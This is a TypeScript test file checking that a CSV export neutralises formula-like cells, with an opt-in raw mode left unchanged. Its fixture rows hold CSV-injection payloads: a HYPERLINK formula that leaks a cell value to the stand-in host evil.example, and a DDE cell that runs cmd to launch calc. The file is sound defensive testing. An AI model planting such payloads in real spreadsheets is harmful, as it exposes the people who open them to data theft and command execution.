import { afterEach, expect, test } from 'vitest';
import { exportedFile } from '../../support/export-file';
import { makeVersion } from '../../support/make-version';
import { openTestWorkspace, type TestWorkspace } from '../../support/temp-workspace';

let ws: TestWorkspace;
afterEach(async () => ws?.close());

// Cells an attacker can put in a file the agent imports and later exports for colleagues.
const hostileRows = [
  ['=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', -5, '+33 1 23 45 67 89'],
  ['@SUM(1+1)*cmd|\' /C calc\'!A0', 12.5, '-2+3'],
  ['\t=1+1', -0.5, '\r=1+1'],
  ['Lyon', 3, 'ordinaire'],
];

test('CSV export neutralises formula-like cells; numbers in numeric columns stay; raw only on request', async () => {
  ws = await openTestWorkspace();
  const { versionId } = makeVersion(ws.host.services.db, {
    columns: [
      { name: 'libelle', type: 'text', label: '=Libellé' },
      { name: 'montant', type: 'decimal', label: 'Montant' },
      { name: 'note', type: 'text', label: 'Note' },
    ],
    rows: hostileRows,
  });
  const csv = async (raw: boolean) => (await exportedFile(ws.host, ws.admin, 1, versionId, 'csv', raw)).body.toString('utf8').split('\r\n');
  expect(await csv(false)).toEqual([
    "'=Libellé,Montant,Note",
    `"'=HYPERLINK(""http://evil.example/?""&A1,""Cliquez"")",-5,'+33 1 23 45 67 89`,
    "'@SUM(1+1)*cmd|' /C calc'!A0,12.5,'-2+3",
    `'\t=1+1,-0.5,"'\r=1+1"`,
    'Lyon,3,ordinaire',
    '',
  ]);
  expect((await csv(true))[1]).toBe(`"=HYPERLINK(""http://evil.example/?""&A1,""Cliquez"")",-5,+33 1 23 45 67 89`);
});
